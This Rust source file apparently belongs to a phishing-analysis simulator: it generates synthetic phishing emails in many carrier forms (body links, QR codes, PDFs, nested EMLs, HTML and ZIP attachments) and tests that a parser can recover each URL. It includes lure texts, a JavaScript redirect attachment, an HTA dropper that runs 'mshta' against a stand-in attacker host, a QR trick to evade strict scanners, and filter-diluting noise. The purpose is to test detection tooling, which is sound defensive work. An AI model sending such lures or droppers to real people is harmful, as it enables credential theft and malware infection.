//! Wire-format message synthesis: every carrier shape the parsing phase
//! must handle (§IV-B), built with the real substrates — actual QR symbols,
//! actual PDF-lite documents, actual ZIP archives, nested EMLs.

use cb_artifacts::pdf::PdfPage;
use cb_artifacts::qrimage;
use cb_artifacts::{Bitmap, PdfDocument, Rgb, ZipArchive};
use cb_email::MessageBuilder;
use cb_json::{Deserialize, Serialize};
use cb_qr::{encode_bytes, EcLevel};
use cb_sim::rng::Rng;
use cb_sim::rng::StdRng;
use cb_sim::SimTime;

/// How a message carries its URL (or nothing).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Carrier {
    /// Plain-text/HTML body link.
    BodyLink,
    /// QR code image attachment.
    QrCode {
        /// Faulty payload exploiting the scanner bug (§V-C1).
        faulty: bool,
    },
    /// URL drawn into an image (OCR extraction path).
    ImageText,
    /// PDF attachment with a link annotation.
    PdfLink,
    /// PDF attachment with the URL only as page text (screenshot+OCR path).
    PdfText,
    /// Nested `message/rfc822` attachment carrying the link.
    NestedEml,
    /// HTML file attachment with a local JS redirect.
    HtmlAttachment,
    /// ZIP archive containing an HTA dropper.
    ZipHta,
    /// No web resource at all (fraud / BEC first contact).
    None,
}

/// The body-footer prefix announcing an OTP — the pipeline's gate solver
/// searches for this marker (case-insensitively).
pub const ACCESS_CODE_PREFIX: &str = "access code:";

/// Render `Date:` header text from a sim instant.
pub fn date_header(t: SimTime) -> String {
    let (y, mo, d) = t.ymd();
    let (h, mi, s) = t.hms();
    format!(
        "{d:02} {} {y} {h:02}:{mi:02}:{s:02} +0000",
        cb_sim::Month(mo).abbrev()
    )
}

fn base_builder(victim: &str, subject: &str, delivered: SimTime, seed: u64) -> MessageBuilder {
    let mut b = MessageBuilder::new();
    b.from("notification@partner-billing.example")
        .to(victim)
        .subject(subject)
        .date(&date_header(delivered))
        .header(
            "Authentication-Results",
            "corp.example; spf=pass dkim=pass dmarc=pass",
        )
        .boundary_seed(seed);
    b
}

/// Long random noise text diluting content signals (§V-C1: "a lengthy
/// series of line breaks and a long random text").
pub fn noise_text(rng: &mut StdRng, words: usize) -> String {
    const POOL: &[&str] = &[
        "quarterly",
        "synergy",
        "newsletter",
        "update",
        "metrics",
        "regional",
        "holiday",
        "schedule",
        "committee",
        "wellness",
        "initiative",
        "survey",
        "benefits",
        "travel",
        "catering",
        "maintenance",
        "parking",
        "reminder",
        "policy",
        "renewal",
    ];
    let mut out = String::from("\r\n\r\n\r\n\r\n\r\n\r\n\r\n\r\n\r\n\r\n");
    for i in 0..words {
        if i % 12 == 0 {
            out.push_str("\r\n");
        }
        out.push_str(POOL[rng.gen_range(0..POOL.len())]);
        out.push(' ');
    }
    out
}

/// The lure body text pointing at `url`.
fn lure_text(url: &str, victim: &str) -> String {
    format!(
        "Dear colleague,\r\n\r\nYour mailbox storage is almost full and several messages \
         are on hold. Review the pending items within 24 hours to avoid interruption:\r\n\r\n\
         {url}\r\n\r\nThis notice was generated for {victim}.\r\nIT Service Desk"
    )
}

/// A QR image for `payload` (optionally faulty: junk prepended so strict
/// scanners reject it while phones recover the URL).
pub fn qr_image(payload: &str, faulty: bool) -> Bitmap {
    let data = if faulty {
        format!("xxx {payload}")
    } else {
        payload.to_string()
    };
    let symbol = encode_bytes(data.as_bytes(), EcLevel::M).expect("payload fits v10");
    let mut canvas = Bitmap::new(
        qrimage::render(symbol.matrix(), 2).width().max(260),
        qrimage::render(symbol.matrix(), 2).height() + 24,
        Rgb::WHITE,
    );
    canvas.draw_text(4, 4, "SCAN TO REVIEW", 1, Rgb::BLACK);
    qrimage::draw_at(&mut canvas, symbol.matrix(), 8, 18, 2);
    canvas
}

/// One message with every random choice already made: the draw step of
/// synthesis. [`MessageDraft::draw`] makes the only RNG draws a message
/// needs; [`MessageDraft::render`] turns the draft into wire-format MIME
/// without touching an RNG, so the draws of a whole corpus can be made
/// (and its world state settled) without rendering a single message.
#[derive(Debug, Clone, PartialEq)]
pub struct MessageDraft {
    /// How the message carries its URL.
    pub carrier: Carrier,
    /// The embedded URL (when any).
    pub url: Option<String>,
    /// The recipient.
    pub victim: String,
    /// Delivery instant (the `Date:` header).
    pub delivered: SimTime,
    /// One-time access code for the body footer.
    pub otp_note: Option<String>,
    /// MIME boundary seed.
    pub seed: u64,
    /// Drawn: the subject carries a ` [reminder]` suffix.
    pub reminder: bool,
    /// Drawn: the noise padding of a noise-padded [`Carrier::BodyLink`].
    pub noise: Option<String>,
}

impl MessageDraft {
    /// Make one message's draws: the `[reminder]` subject suffix, then —
    /// for a noise-padded body link only — 180 words of noise text.
    #[allow(clippy::too_many_arguments)]
    pub fn draw(
        rng: &mut StdRng,
        carrier: Carrier,
        url: Option<&str>,
        victim: &str,
        delivered: SimTime,
        noise_padded: bool,
        otp_note: Option<&str>,
        seed: u64,
    ) -> MessageDraft {
        let reminder = rng.gen_bool(0.3);
        let noise = (noise_padded && carrier == Carrier::BodyLink).then(|| noise_text(rng, 180));
        MessageDraft {
            carrier,
            url: url.map(str::to_string),
            victim: victim.to_string(),
            delivered,
            otp_note: otp_note.map(str::to_string),
            seed,
            reminder,
            noise,
        }
    }

    /// Render the draft as wire-format MIME: QR symbols, bitmaps, PDFs,
    /// ZIPs and base64 bodies. Pure — the same draft always renders the
    /// same bytes.
    pub fn render(&self) -> String {
        let MessageDraft {
            carrier,
            delivered,
            seed,
            ..
        } = *self;
        let victim = self.victim.as_str();
        let url_or_default = self.url.as_deref().unwrap_or("https://unused.example/");
        let mut subject = match carrier {
            Carrier::None => "Outstanding balance - action required".to_string(),
            Carrier::QrCode { .. } => "Document shared with you - scan to view".to_string(),
            Carrier::ZipHta => "Invoice archive attached".to_string(),
            _ => "Mailbox storage warning".to_string(),
        };
        if self.reminder {
            subject.push_str(" [reminder]");
        }
        let mut b = base_builder(victim, &subject, delivered, seed);
        // The OTP rides along in the body footer for every carrier.
        let footer = self
            .otp_note
            .as_deref()
            .map(|c| format!("\r\n\r\nYour one-time {ACCESS_CODE_PREFIX} {c}"))
            .unwrap_or_default();

        match carrier {
            Carrier::None => {
                b.text_body(
                    "Hello,\r\n\r\nThis is the billing department of a partner company. Our records \
                     show a past-due balance on your account. Reply urgently to arrange payment and \
                     avoid service disconnection.\r\n\r\nRegards,\r\nAccounts Receivable",
                );
            }
            Carrier::BodyLink => {
                let mut text = lure_text(url_or_default, victim);
                text.push_str(&footer);
                if let Some(noise) = &self.noise {
                    text.push_str(noise);
                }
                b.text_body(&text);
                b.html_body(&format!(
                    r#"<p>Several messages are on hold for {victim}.</p><a href="{url_or_default}">Review pending items</a>"#
                ));
            }
            Carrier::QrCode { faulty } => {
                b.text_body(&format!(
                    "Scan the attached code with your phone to view the shared document.{footer}"
                ));
                let img = qr_image(url_or_default, faulty);
                b.attach("qr-code.png", "image/png", &img.to_bytes());
            }
            Carrier::ImageText => {
                b.text_body(&format!("See the attached notice.{footer}"));
                let mut img = Bitmap::new(620, 40, Rgb::WHITE);
                img.draw_text(4, 4, "ACCOUNT SUSPENDED - VISIT", 1, Rgb::BLACK);
                img.draw_text(4, 20, url_or_default, 1, Rgb::BLACK);
                b.attach("notice.png", "image/png", &img.to_bytes());
            }
            Carrier::PdfLink => {
                b.text_body(&format!("The invoice is attached as PDF.{footer}"));
                let mut doc = PdfDocument::new();
                let mut page = PdfPage::new();
                page.text(10, 10, "INVOICE #8471 OVERDUE")
                    .link(url_or_default);
                doc.page(page);
                b.attach("invoice.pdf", "application/pdf", &doc.to_bytes());
            }
            Carrier::PdfText => {
                b.text_body(&format!("The invoice is attached as PDF.{footer}"));
                let mut doc = PdfDocument::new();
                let mut page = PdfPage::new();
                page.text(10, 10, "PAY AT");
                page.text(10, 26, url_or_default);
                doc.page(page);
                b.attach("invoice.pdf", "application/pdf", &doc.to_bytes());
            }
            Carrier::NestedEml => {
                let mut inner = base_builder(victim, "FW: payment link", delivered, seed ^ 0x9999);
                inner.text_body(&lure_text(url_or_default, victim));
                let inner_raw = inner.build();
                b.text_body(&format!(
                    "Forwarding the original request, please handle.{footer}"
                ));
                b.attach("original.eml", "message/rfc822", inner_raw.as_bytes());
            }
            Carrier::HtmlAttachment => {
                b.text_body(&format!("Open the attached secure document.{footer}"));
                let html = format!(
                    r#"<html><body>
<img src="https://freeimages.example/bg.jpg">
<script>location.href = "{url_or_default}";</script>
<p>Loading secure document...</p>
</body></html>"#
                );
                b.attach("secure-document.html", "text/html", html.as_bytes());
            }
            Carrier::ZipHta => {
                b.text_body(&format!("The requested archive is attached.{footer}"));
                let hta = format!(
                    r#"<html><hta:application id="inv"/><script>
var sh = new ActiveXObject("WScript.Shell");
sh.Run("mshta {url_or_default}");
</script></html>"#
                );
                let mut zip = ZipArchive::new();
                zip.add("invoice.hta", hta.as_bytes());
                b.attach("invoice-archive.zip", "application/zip", &zip.to_bytes());
            }
        }
        b.build()
    }
}

/// Build one synthetic reported message: [`MessageDraft::draw`], then
/// [`MessageDraft::render`]. `otp_note` carries the one-time access code
/// for OTP-gated campaigns (the paper's OTP arrives in a separate message;
/// the single-message simplification is documented in DESIGN.md §4).
#[allow(clippy::too_many_arguments)]
pub fn build_message(
    rng: &mut StdRng,
    carrier: Carrier,
    url: Option<&str>,
    victim: &str,
    delivered: SimTime,
    noise_padded: bool,
    otp_note: Option<&str>,
    seed: u64,
) -> String {
    MessageDraft::draw(
        rng,
        carrier,
        url,
        victim,
        delivered,
        noise_padded,
        otp_note,
        seed,
    )
    .render()
}

#[cfg(test)]
mod tests {
    use super::*;
    use cb_email::MimeEntity;
    use cb_sim::SeedFork;

    fn rng() -> StdRng {
        SeedFork::new(5).rng("messages")
    }

    /// Every carrier shape, both QR variants included.
    const CARRIERS: [Carrier; 10] = [
        Carrier::None,
        Carrier::BodyLink,
        Carrier::QrCode { faulty: false },
        Carrier::QrCode { faulty: true },
        Carrier::ImageText,
        Carrier::PdfLink,
        Carrier::PdfText,
        Carrier::NestedEml,
        Carrier::HtmlAttachment,
        Carrier::ZipHta,
    ];

    fn t0() -> SimTime {
        SimTime::from_ymd_hms(2024, 3, 12, 9, 30, 0)
    }

    #[test]
    fn every_carrier_produces_parseable_mime() {
        for (i, carrier) in CARRIERS.iter().enumerate() {
            let raw = build_message(
                &mut rng(),
                *carrier,
                Some("https://evil-x.example/tok12345"),
                "victim@corp.example",
                t0(),
                false,
                None,
                i as u64,
            );
            let msg = MimeEntity::parse(&raw).unwrap_or_else(|e| panic!("{carrier:?}: {e}"));
            assert!(msg.header("Subject").is_some());
            assert_eq!(
                msg.header("Authentication-Results").unwrap(),
                "corp.example; spf=pass dkim=pass dmarc=pass"
            );
        }
    }

    #[test]
    fn drafts_render_what_build_message_builds() {
        for (i, carrier) in CARRIERS.into_iter().enumerate() {
            for noise_padded in [false, true] {
                for otp in [None, Some("482913")] {
                    let url = Some("https://evil-d.example/draft123");
                    let (mut built_rng, mut drawn_rng) = (rng(), rng());
                    let built = build_message(
                        &mut built_rng,
                        carrier,
                        url,
                        "v@corp.example",
                        t0(),
                        noise_padded,
                        otp,
                        i as u64,
                    );
                    let draft = MessageDraft::draw(
                        &mut drawn_rng,
                        carrier,
                        url,
                        "v@corp.example",
                        t0(),
                        noise_padded,
                        otp,
                        i as u64,
                    );
                    let label = format!("{carrier:?} noise={noise_padded} otp={otp:?}");
                    assert_eq!(draft.render(), built, "{label}");
                    assert_eq!(draft.render(), draft.render(), "{label}: render is pure");
                    assert_eq!(
                        built_rng.gen::<u64>(),
                        drawn_rng.gen::<u64>(),
                        "{label}: draw consumed a different RNG prefix"
                    );
                    // Only a noise-padded body link draws noise.
                    assert_eq!(
                        draft.noise.is_some(),
                        noise_padded && carrier == Carrier::BodyLink,
                        "{label}"
                    );
                }
            }
        }
    }

    #[test]
    fn qr_attachment_decodes_back_to_url() {
        let raw = build_message(
            &mut rng(),
            Carrier::QrCode { faulty: false },
            Some("https://evil-q.example/scanme12"),
            "v@corp.example",
            t0(),
            false,
            None,
            1,
        );
        let msg = MimeEntity::parse(&raw).unwrap();
        let img_part = msg
            .leaves()
            .into_iter()
            .find(|l| l.filename().as_deref() == Some("qr-code.png"))
            .unwrap();
        let img = Bitmap::from_bytes(img_part.body_bytes().unwrap()).unwrap();
        let payload = qrimage::decode_from_image(&img).expect("qr detected");
        assert_eq!(payload, b"https://evil-q.example/scanme12");
    }

    #[test]
    fn faulty_qr_has_junk_prefix() {
        let raw = build_message(
            &mut rng(),
            Carrier::QrCode { faulty: true },
            Some("https://evil-q.example/faulty99"),
            "v@corp.example",
            t0(),
            false,
            None,
            2,
        );
        let msg = MimeEntity::parse(&raw).unwrap();
        let img_part = msg
            .leaves()
            .into_iter()
            .find(|l| l.filename().is_some())
            .unwrap();
        let img = Bitmap::from_bytes(img_part.body_bytes().unwrap()).unwrap();
        let payload = qrimage::decode_from_image(&img).unwrap();
        assert!(payload.starts_with(b"xxx "));
        assert_eq!(cb_qr::extract::extract_url_strict(&payload), None);
        assert_eq!(
            cb_qr::extract::extract_url_lenient(&payload).as_deref(),
            Some("https://evil-q.example/faulty99")
        );
    }

    #[test]
    fn pdf_link_is_extractable() {
        let raw = build_message(
            &mut rng(),
            Carrier::PdfLink,
            Some("https://evil-p.example/pdfpath1"),
            "v@corp.example",
            t0(),
            false,
            None,
            3,
        );
        let msg = MimeEntity::parse(&raw).unwrap();
        let pdf_part = msg
            .leaves()
            .into_iter()
            .find(|l| l.content_type().mime() == "application/pdf")
            .unwrap();
        let doc = PdfDocument::parse(pdf_part.body_bytes().unwrap()).unwrap();
        assert_eq!(doc.link_uris(), ["https://evil-p.example/pdfpath1"]);
    }

    #[test]
    fn nested_eml_contains_inner_url() {
        let raw = build_message(
            &mut rng(),
            Carrier::NestedEml,
            Some("https://evil-n.example/nested12"),
            "v@corp.example",
            t0(),
            false,
            None,
            4,
        );
        let msg = MimeEntity::parse(&raw).unwrap();
        let eml_part = msg
            .leaves()
            .into_iter()
            .find(|l| l.content_type().mime() == "message/rfc822")
            .unwrap();
        let inner = MimeEntity::parse(std::str::from_utf8(eml_part.body_bytes().unwrap()).unwrap())
            .unwrap();
        assert!(inner
            .body_text()
            .unwrap()
            .contains("evil-n.example/nested12"));
    }

    #[test]
    fn zip_member_is_detectable_hta() {
        let raw = build_message(
            &mut rng(),
            Carrier::ZipHta,
            Some("https://evil-z.example/payload1"),
            "v@corp.example",
            t0(),
            false,
            None,
            5,
        );
        let msg = MimeEntity::parse(&raw).unwrap();
        let zip_part = msg
            .leaves()
            .into_iter()
            .find(|l| l.content_type().mime() == "application/zip")
            .unwrap();
        let zip = ZipArchive::parse(zip_part.body_bytes().unwrap()).unwrap();
        let hta = zip.entry("invoice.hta").unwrap();
        assert!(cb_artifacts::magic::is_hta(&hta.data));
    }

    #[test]
    fn noise_padding_inflates_body() {
        let plain = build_message(
            &mut rng(),
            Carrier::BodyLink,
            Some("https://e.example/x"),
            "v@corp.example",
            t0(),
            false,
            None,
            6,
        );
        let padded = build_message(
            &mut rng(),
            Carrier::BodyLink,
            Some("https://e.example/x"),
            "v@corp.example",
            t0(),
            true,
            None,
            6,
        );
        assert!(padded.len() > plain.len() + 800);
    }

    #[test]
    fn date_header_format() {
        assert_eq!(date_header(t0()), "12 Mar 2024 09:30:00 +0000");
    }

    #[test]
    fn image_text_is_ocr_recoverable() {
        let raw = build_message(
            &mut rng(),
            Carrier::ImageText,
            Some("https://evil-i.example/imgurl12"),
            "v@corp.example",
            t0(),
            false,
            None,
            7,
        );
        let msg = MimeEntity::parse(&raw).unwrap();
        let img_part = msg
            .leaves()
            .into_iter()
            .find(|l| l.filename().is_some())
            .unwrap();
        let img = Bitmap::from_bytes(img_part.body_bytes().unwrap()).unwrap();
        let text = cb_artifacts::ocr::recognize_any_scale(&img);
        assert!(
            text.contains("HTTPS://EVIL-I.EXAMPLE/IMGURL12"),
            "OCR text: {text}"
        );
    }
}
